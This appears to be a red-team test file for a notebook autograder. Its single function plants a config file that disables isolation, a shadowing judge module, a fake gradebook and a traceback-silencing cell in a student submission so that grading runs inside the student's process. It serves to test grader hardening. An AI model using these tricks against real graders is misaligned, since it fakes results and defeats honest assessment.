"""Settings, a gradebook and modules next to the notebook send tests to the child.

Success: a question that is judged outside has points, or another test is judged in the child.
"""


def attack(submission):
    submission.file(
        "nbgrader_config.py",
        "c = get_config()\nc.NbJudge.tests_in_child = True\nc.NbJudge.isolation = 'none'\n",
    )
    submission.file("nbjudge.py", "raise SystemExit('red-team-was-here')")
    submission.file("placement.json", '{"ps1": ["square_test", "words_test"]}')
    submission.file("gradebook.db", b"SQLite format 3\0")
    submission.first("get_ipython().showtraceback = lambda *arguments, **options: None")
